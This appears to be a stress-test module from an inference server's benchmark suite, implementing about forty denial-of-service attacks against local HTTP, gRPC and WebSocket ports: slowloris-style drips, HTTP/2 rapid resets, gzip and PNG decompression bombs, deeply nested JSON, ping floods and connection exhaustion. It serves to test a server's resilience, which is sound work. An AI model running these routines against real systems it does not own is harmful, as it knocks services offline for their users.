#!/usr/bin/env python3
"""What one stranger may do to a server, each as a function that goes on until it is stopped.

bench/attack.py runs each in a process of its own. Every one speaks raw bytes, from as many connections as it says. None
needs an administrative call. Further ones are in attacks_more.py, attacks_parts.py and attacks_rest.py."""

import gzip
import http.client
import itertools
import json
import pathlib
import socket
import struct
import sys
import threading
import time
import zlib

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "tests" / "python"))
from http2 import (DATA, END_HEADERS, END_STREAM, HEAD, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS,  # noqa: E402
                   WINDOW_UPDATE, field, frame)

MIB = 1 << 20
STREAM_HEAD = HEAD.replace(field(":path", "/inference.GRPCInferenceService/ModelInfer"),
                           field(":path", "/inference.GRPCInferenceService/ModelStreamInfer"))
SETTLED = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0)
WIDE = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1)) + frame(SETTINGS, 1, 0)


class Stranger:
    def __init__(self, http_port, grpc_port, parts_port, seconds):
        self.http, self.grpc, self.parts = http_port, grpc_port, parts_port
        self.end = time.monotonic() + seconds

    def on(self):
        return time.monotonic() < self.end

    def connect(self, port, address="127.0.0.1"):
        """From that address of this machine."""
        s = socket.socket()
        s.settimeout(2)
        s.bind((address, 0))
        s.connect(("127.0.0.1", port))
        return s

    def each(self, count, what):
        """`what` again and again on `count` threads; a connection that is closed is made anew."""
        def again(number):
            while self.on():
                try:
                    what(number)
                except (OSError, http.client.HTTPException):
                    time.sleep(0.05)
        threads = [threading.Thread(target=again, args=(n,), daemon=True) for n in range(count)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(max(0.0, self.end - time.monotonic()) + 0.5)


def head_of(length, extra="", path="/v2/models/identity-uint8/infer"):
    return (f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{extra}Content-Length: {length}\r\n\r\n").encode()


def drip(stranger, s, rest):
    """The rest of a message, eight bytes at a time."""
    for at in range(0, len(rest), 8):
        if not stranger.on():
            return
        s.sendall(rest[at:at + 8])
        time.sleep(0.3)


def grpc_heads(stranger):
    """Streams of which only the heads are sent."""
    def one(_):
        with stranger.connect(stranger.grpc) as s:
            s.sendall(SETTLED)
            for stream in range(1, 2047, 2):
                s.sendall(frame(HEADERS, END_HEADERS, stream, STREAM_HEAD))
            while stranger.on() and s.recv(65536):
                pass
    stranger.each(64, one)


def slow_bodies(stranger):
    """Large bodies whose last bytes come 8 at a time."""
    body = b"x" * (15 * MIB)
    def one(_):
        with stranger.connect(stranger.http) as s:
            s.settimeout(30)
            s.sendall(head_of(len(body)) + body[:-8000])
            drip(stranger, s, body[-8000:])
    stranger.each(33, one)


def slow_replies(stranger):
    """Large replies that are read 8 bytes at a time."""
    data = bytes(8 * MIB)
    request = json.dumps({"parameters": {"binary_data_output": True},
                          "inputs": [{"name": "x", "datatype": "UINT8", "shape": [1, len(data)],
                                      "parameters": {"binary_data_size": len(data)}}]}).encode()
    def one(_):
        with socket.socket() as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            s.settimeout(30)
            s.connect(("127.0.0.1", stranger.http))
            s.sendall(head_of(len(request) + len(data), f"Inference-Header-Content-Length: {len(request)}\r\n")
                      + request + data)
            while stranger.on() and s.recv(8):
                time.sleep(0.3)
    stranger.each(33, one)


def prefaces(stranger):
    """As many gRPC connections as there may be, that never call."""
    held = []
    while stranger.on():
        try:
            s = stranger.connect(stranger.grpc)
            s.sendall(PREFACE + frame(SETTINGS, 0, 0))
            held.append(s)
        except OSError:
            time.sleep(0.05)
        if len(held) > 1030:
            time.sleep(0.1)
            held = held[-1030:]


def gzip_bodies(stranger):
    """Small bodies that unpack to much JSON."""
    text = b'{"inputs":[{"name":"x","datatype":"UINT8","shape":[1,9000000],"data":[' + b"0," * 9_000_000 + b"0]}]}"
    packed = gzip.compress(text, 9)
    def one(_):
        with stranger.connect(stranger.http) as s:
            s.settimeout(30)
            s.sendall(head_of(len(packed), "Content-Encoding: gzip\r\n") + packed)
            s.recv(65536)
    stranger.each(64, one)


def gzip_replies(stranger):
    """Large replies as compressed JSON."""
    data = bytes(4 * MIB)
    request = json.dumps({"inputs": [{"name": "x", "datatype": "UINT8", "shape": [1, len(data)],
                                      "parameters": {"binary_data_size": len(data)}}]}).encode()
    extra = f"Accept-Encoding: gzip\r\nInference-Header-Content-Length: {len(request)}\r\n"
    def one(_):
        with stranger.connect(stranger.http) as s:
            s.settimeout(30)
            s.sendall(head_of(len(request) + len(data), extra) + request + data)
            s.recv(65536)
    stranger.each(4, one)


def grpc_message(body, packed=False):
    return struct.pack(">BI", packed, len(body)) + body


def data_frames(stream, message, end=True):
    pieces = [message[at:at + 16384] for at in range(0, len(message), 16384)]
    for piece in pieces:
        yield frame(DATA, END_STREAM if end and piece is pieces[-1] else 0, stream, piece)


def grpc_gzip(stranger):
    """64 kB of gzip that unpack to 60 MB, 58 a second."""
    packed = gzip.compress(bytes(60 * MIB), 9)
    head = HEAD + field("grpc-encoding", "gzip")
    def one(_):
        with stranger.connect(stranger.grpc) as s:
            s.sendall(SETTLED + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
            for stream in itertools.count(1, 2):
                if not stranger.on():
                    return
                s.sendall(frame(HEADERS, END_HEADERS, stream, head)
                          + b"".join(data_frames(stream, grpc_message(packed, True))))
                time.sleep(4 / 58)
                s.setblocking(False)
                try:
                    s.recv(1 << 20)
                except BlockingIOError:
                    pass
                s.settimeout(2)
    stranger.each(4, one)


def rapid_resets(stranger):
    """Calls that are given up at once, on three connections that are made again."""
    def one(_):
        with stranger.connect(stranger.grpc) as s:
            s.sendall(SETTLED)
            for stream in itertools.count(1, 2):
                s.sendall(frame(HEADERS, END_HEADERS, stream, HEAD)
                          + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
                if not stranger.on():
                    return
    stranger.each(3, one)


def idle_connections(stranger):
    """New connections that never send anything, as many as can be made."""
    def one(_):
        held = []
        while stranger.on():
            held.append(stranger.connect(stranger.http))
            held = held[-400:]
    stranger.each(4, one)


def png(width, height, says=None):
    """Of one colour, in few bytes; `says`: the height that it says to have."""
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))
    rows = zlib.compress(bytes((1 + 3 * width) * height), 9)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, says or height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", rows) + chunk(b"IEND", b""))


def picture_request(encoded):
    data = struct.pack("<I", len(encoded)) + encoded
    request = json.dumps({"inputs": [{"name": "encoded", "datatype": "BYTES", "shape": [1],
                                      "parameters": {"binary_data_size": len(data)}}]}).encode()
    return request, data


def large_pictures(stranger):
    """Three PNGs of 8000 x 4000 a second."""
    request, data = picture_request(png(8000, 4000))
    def one(_):
        with stranger.connect(stranger.http) as s:
            s.sendall(head_of(len(request) + len(data), f"Inference-Header-Content-Length: {len(request)}\r\n",
                              "/v2/models/pictures/infer") + request + data)
            s.settimeout(1)
            try:
                s.recv(65536)
            except TimeoutError:
                pass
    stranger.each(3, one)


def full_queue(stranger):
    """A thousand requests of one connection that may take 1000 seconds."""
    import grpc
    from tritonclient.grpc import service_pb2
    request = service_pb2.ModelInferRequest(model_name="slow")
    request.inputs.add(name="x", datatype="FP32", shape=[1, 64])
    request.raw_input_contents.append(bytes(256))
    request.parameters["timeout"].int64_param = 1_000_000_000
    wire = request.SerializeToString()
    with grpc.insecure_channel(f"127.0.0.1:{stranger.grpc}") as channel:
        call = channel.unary_unary("/inference.GRPCInferenceService/ModelInfer")
        waiting = []
        while stranger.on():
            waiting = [f for f in waiting if not f.done()]
            while len(waiting) < 1000:
                waiting.append(call.future(wire))
            time.sleep(0.1)
        for f in waiting:
            f.cancel()


def half_messages(stranger):
    """Half of a large message on each of 30 gRPC connections."""
    half = grpc_message(bytes(15 * MIB))[:8 * MIB]
    def one(_):
        with stranger.connect(stranger.grpc) as s:
            s.settimeout(30)
            s.sendall(SETTLED + frame(HEADERS, END_HEADERS, 1, HEAD))
            for each in data_frames(1, half, end=False):
                s.sendall(each)
            while stranger.on() and s.recv(65536):
                pass
    stranger.each(30, one)


def grpc_calls(stranger, connections, calls, head=HEAD, message=b"", settled=SETTLED, pause=0.0, end=True, again=False, address="127.0.0.1"):
    """So many calls on each connection; what the server says is read and forgotten. `again`: and then another connection."""
    def one(_):
        with stranger.connect(stranger.grpc, address) as s:
            s.sendall(settled)
            for stream in range(1, 2 * calls, 2):
                s.sendall(frame(HEADERS, END_HEADERS, stream, head) + b"".join(data_frames(stream, message, end) if message else ()))
                if pause:
                    time.sleep(pause)
                if not stranger.on():
                    return
            while stranger.on() and not again and s.recv(65536):
                pass
    stranger.each(connections, one)


def one_byte_messages(stranger):
    """Calls of whose message one byte comes."""
    grpc_calls(stranger, 64, 1023, message=b"\0", end=False)


def growing_messages(stranger):
    """Large messages in frames of one byte."""
    start = grpc_message(bytes(15 * MIB))[:5]
    bytes_one_by_one = frame(DATA, 0, 1, b"x") * 1000
    def one(_):
        with stranger.connect(stranger.grpc) as s:
            s.sendall(SETTLED + frame(HEADERS, END_HEADERS, 1, HEAD) + frame(DATA, 0, 1, start))
            while stranger.on():
                s.sendall(bytes_one_by_one)
    stranger.each(8, one)


def large_metadata(stranger):
    """Calls with 15 kB of metadata each, of which nothing else comes."""
    grpc_calls(stranger, 16, 200, head=HEAD + field("a", "b" * 120) * 60)


def unknown_methods(stranger):
    """Calls of what there is not, as fast as they go."""
    head = HEAD.replace(field(":path", "/inference.GRPCInferenceService/ModelInfer"), field(":path", "/nobody/Nothing"))
    grpc_calls(stranger, 4, 1000, head=head, message=grpc_message(b""), again=True)


def watchers(stranger):
    """Thousands that watch the server's health."""
    head = HEAD.replace(field(":path", "/inference.GRPCInferenceService/ModelInfer"), field(":path", "/grpc.health.v1.Health/Watch"))
    grpc_calls(stranger, 16, 1000, head=head, message=grpc_message(b""))


def idle_streams(stranger):
    """Streams of one request each, that are kept."""
    grpc_calls(stranger, 16, 1000, head=STREAM_HEAD, message=grpc_message(b"\x0a\x05quick"), end=False)


def packed_streams(stranger):
    """Gzip messages over streams, which unpack to 15 MB of zeros."""
    packed = grpc_message(gzip.compress(bytes(15 * MIB), 9), True)
    grpc_calls(stranger, 4, 1000, head=STREAM_HEAD + field("grpc-encoding", "gzip"), message=packed, pause=0.05)


def packed_operations(stranger):
    """The same to a call that asks for little."""
    head = HEAD.replace(field(":path", "/inference.GRPCInferenceService/ModelInfer"),
                        field(":path", "/inference.GRPCInferenceService/ModelMetadata"))
    packed = grpc_message(gzip.compress(bytes(15 * MIB), 9), True)
    grpc_calls(stranger, 4, 1000, head=head + field("grpc-encoding", "gzip"), message=packed, pause=0.05)


def many_parts(stranger):
    """Messages of a million empty inputs."""
    grpc_calls(stranger, 8, 1000, message=grpc_message(b"\x2a\x00" * 1_000_000), pause=0.1)


def closed_windows(stranger):
    """Answers that gRPC must keep, since the client takes none."""
    data = bytes(2 * MIB)
    from tritonclient.grpc import service_pb2
    request = service_pb2.ModelInferRequest(model_name="identity-uint8")
    request.inputs.add(name="x", datatype="UINT8", shape=[1, len(data)])
    request.raw_input_contents.append(data)
    shut = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + frame(SETTINGS, 1, 0)
    grpc_calls(stranger, 16, 60, message=grpc_message(request.SerializeToString()), settled=shut)


def resets_below(stranger):
    """Fewer resets than end a connection, on connections that are made again."""
    def one(_):
        with stranger.connect(stranger.grpc) as s:
            s.sendall(SETTLED + b"".join(frame(HEADERS, END_HEADERS, stream, HEAD) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                                         for stream in range(1, 4001, 2)))
    stranger.each(3, one)


def pings(stranger):
    """Pings and settings, each of which asks for an answer."""
    def one(_):
        with stranger.connect(stranger.grpc) as s:
            s.sendall(SETTLED)
            while stranger.on():
                s.sendall((frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0)) * 100)
    stranger.each(8, one)


def new_grpc_connections(stranger):
    """gRPC connections that are made and closed as fast as that goes."""
    def one(_):
        with stranger.connect(stranger.grpc) as s:
            s.sendall(SETTLED)
            s.recv(100)
    stranger.each(8, one)


def slow_heads(stranger):
    """Two thousand HTTP heads that come byte by byte."""
    held, at = [], 0
    text = b"POST /v2/models/quick/infer HTTP/1.1\r\nHost: x\r\nA: " + b"a" * 10_000
    while stranger.on():
        try:
            if len(held) < 2000:
                held.append(stranger.connect(stranger.http))
            for s in held[at % 20::20]:
                s.send(text[at // 20:at // 20 + 1])
            at += len(held) >= 2000
        except OSError:
            held = [s for s in held if s.fileno() >= 0][-1000:]
            time.sleep(0.01)


def small_chunks(stranger):
    """Bodies in chunks of one byte."""
    head = b"POST /v2/models/quick/infer HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    def one(_):
        with stranger.connect(stranger.http) as s:
            s.sendall(head)
            while stranger.on():
                s.sendall(b"1\r\nx\r\n" * 2000)
    stranger.each(8, one)


def deep_json(stranger):
    """Megabytes of brackets."""
    text = b'{"inputs":' + b"[" * (8 * MIB)
    def one(_):
        with stranger.connect(stranger.http) as s:
            s.sendall(head_of(len(text)) + text)
            s.recv(65536)
    stranger.each(8, one)


def long_json(stranger):
    """Fifteen megabytes of numbers a request."""
    text = b'{"inputs":[{"name":"x","datatype":"UINT8","shape":[1,7000000],"data":[' + b"0," * 6_999_999 + b"0]}]}"
    def one(_):
        with stranger.connect(stranger.http) as s:
            s.settimeout(30)
            s.sendall(head_of(len(text)) + text)
            s.recv(65536)
    stranger.each(8, one)


def pipelines(stranger):
    """Requests one behind the other, whose replies nobody reads."""
    def one(_):
        with stranger.connect(stranger.http) as s:
            while stranger.on():
                s.sendall(b"GET /v2/models/quick/config HTTP/1.1\r\nHost: x\r\n\r\n" * 500)
    stranger.each(8, one)


def announced_bodies(stranger):
    """Bodies that are only announced."""
    def one(_):
        with stranger.connect(stranger.http) as s:
            s.settimeout(30)
            s.sendall(head_of(15 * MIB, "Expect: 100-continue\r\n"))
            while stranger.on() and s.recv(65536):
                pass
    stranger.each(200, one)


def bad_requests(stranger):
    """Wrong ones as fast as they are refused."""
    wrong = head_of(40, path="/v2/models/nobody/infer") + b"{" * 40
    def one(_):
        with stranger.connect(stranger.http) as s:
            while stranger.on():
                s.sendall(wrong)
                if not s.recv(65536):
                    return
    stranger.each(8, one)


def scrapes(stranger):
    """Metrics, asked for without a pause."""
    def one(_):
        with stranger.connect(stranger.http) as s:
            while stranger.on():
                s.sendall(b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
                if not s.recv(1 << 20):
                    return
    stranger.each(4, one)


def pages(stranger):
    """The live page's events, of more than may listen."""
    def one(_):
        with stranger.connect(stranger.http) as s:
            s.settimeout(30)
            s.sendall(b"GET /v2/live/events HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
            while stranger.on() and s.recv(65536):
                pass
    stranger.each(100, one)


UPGRADE = (b"GET /v2/models/quick/stream HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")


def web_frame(data, kind=2, final=True):
    """Of a client, masked with zeros; `kind` 0: a continuation, 1: text, 2: binary, 9: a ping."""
    head = bytes([kind | 128 * final])
    size = len(data)
    head += bytes([128 | size]) if size < 126 else struct.pack(">BH", 254, size) if size < 65536 else struct.pack(">BQ", 255, size)
    return head + bytes(4) + data


def open_web(s, model=b"quick"):
    """A connection becomes a WebSocket, unless there are too many."""
    s.settimeout(30)
    s.sendall(UPGRADE.replace(b"quick", model))
    reply = s.recv(4096)
    if reply and reply.split()[1] not in (b"101", b"429", b"503"):
        raise RuntimeError(f"no WebSocket: {reply}")


def web(stranger, count, send):
    def one(_):
        with stranger.connect(stranger.http) as s:
            open_web(s)
            send(s)
    stranger.each(count, one)


def idle_web_sockets(stranger):
    """WebSockets that say nothing."""
    web(stranger, 400, lambda s: s.recv(100))


def half_web_messages(stranger):
    """Half of a large message on each of 30 WebSockets."""
    half = web_frame(bytes(15 * MIB))[:8 * MIB]
    def send(s):
        s.sendall(half)
        while stranger.on() and s.recv(65536):
            pass
    web(stranger, 30, send)


def web_fragments(stranger):
    """A message in fragments of one byte."""
    def send(s):
        s.sendall(web_frame(b"x", 2, False))
        while stranger.on():
            s.sendall(web_frame(b"x", 0, False) * 2000)
    web(stranger, 8, send)


def web_pings(stranger):
    """Pings whose answers nobody reads."""
    def send(s):
        while stranger.on():
            s.sendall(web_frame(b"x" * 100, 9) * 200)
    web(stranger, 8, send)


def unread_web_replies(stranger):
    """Wrong messages, whose errors nobody reads."""
    def send(s):
        while stranger.on():
            s.sendall(web_frame(b"{}", 1) * 500)
    web(stranger, 8, send)


def long_web_json(stranger):
    """Megabytes of numbers over WebSockets."""
    text = web_frame(b'{"inputs":[{"name":"x","datatype":"FP32","shape":[1,2000000],"data":[' + b"0," * 1_999_999 + b"0]}]}", 1)
    def send(s):
        while stranger.on():
            s.sendall(text)
            s.recv(65536)
    web(stranger, 8, send)


def bad_pictures(stranger):
    """Pictures that end in the middle, and that say to be larger than they are."""
    whole = png(3000, 3000)
    wrong = [whole[:len(whole) // 2], png(30_000, 10, 30_000), b"\xff\xd8\xff" + bytes(100_000)]
    def one(number):
        request, data = picture_request(wrong[number % len(wrong)])
        with stranger.connect(stranger.http) as s:
            s.sendall(head_of(len(request) + len(data), f"Inference-Header-Content-Length: {len(request)}\r\n",
                              "/v2/models/pictures/infer") + request + data)
            s.recv(65536)
    stranger.each(6, one)


def many_models(stranger):
    """Calls of models that there are not, each of another name, over gRPC."""
    from tritonclient.grpc import service_pb2
    def one(number):
        with stranger.connect(stranger.grpc) as s:
            s.sendall(SETTLED)
            for stream in range(1, 20001, 2):
                name = service_pb2.ModelInferRequest(model_name=f"nobody-{number}-{stream}" * 10)
                s.sendall(frame(HEADERS, END_HEADERS, stream, HEAD)
                          + b"".join(data_frames(stream, grpc_message(name.SerializeToString()))))
                if stream % 200 == 1:
                    s.recv(1 << 20)
                if not stranger.on():
                    return
    stranger.each(4, one)


ATTACKS = [grpc_heads, one_byte_messages, half_messages, growing_messages, large_metadata, unknown_methods, watchers, idle_streams,
           grpc_gzip, packed_streams, packed_operations, many_parts, closed_windows, rapid_resets, resets_below, pings, prefaces,
           new_grpc_connections, many_models, full_queue,
           slow_bodies, slow_replies, slow_heads, small_chunks, announced_bodies, gzip_bodies, gzip_replies, deep_json, long_json,
           pipelines, bad_requests, scrapes, pages, idle_connections, large_pictures, bad_pictures,
           idle_web_sockets, half_web_messages, web_fragments, web_pings, unread_web_replies, long_web_json]
